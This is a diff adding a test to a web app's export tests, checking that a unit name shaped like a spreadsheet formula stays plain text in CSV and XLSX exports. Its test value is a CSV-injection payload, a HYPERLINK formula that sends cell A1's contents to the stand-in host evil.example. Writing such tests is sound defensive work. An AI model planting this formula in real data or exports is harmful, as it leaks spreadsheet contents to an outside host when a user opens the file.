@@ -211,3 +211,18 @@ def test_bad_by_or_period_is_refused_with_a_message(evaluator_client, campaign):
 def test_operator_cannot_export(client, campaign):
     login(client, gen_user("operator"))
     assert client.get(f"/evaluate/campaign/{campaign.id}/export.csv").status_code == 403
+
+
+def test_a_unit_name_that_looks_like_a_formula_stays_text(evaluator_client, campaign):
+    # A name typed as a formula would run when an evaluator opens the file in Excel or
+    # WPS (CSV injection): the CSV gets a leading apostrophe, the XLSX a text cell.
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    unit = campaign.units[0]
+    unit.name = hostile
+    db.session.commit()
+    rows = read_csv(evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.csv").data)
+    assert rows[0]["unit_name"] == "'" + hostile
+    body = evaluator_client.get(f"/evaluate/campaign/{campaign.id}/export.xlsx").data
+    sheet = load_workbook(io.BytesIO(body))["results"]
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == hostile]
+    assert len(cells) == 1 and cells[0].data_type == "s"
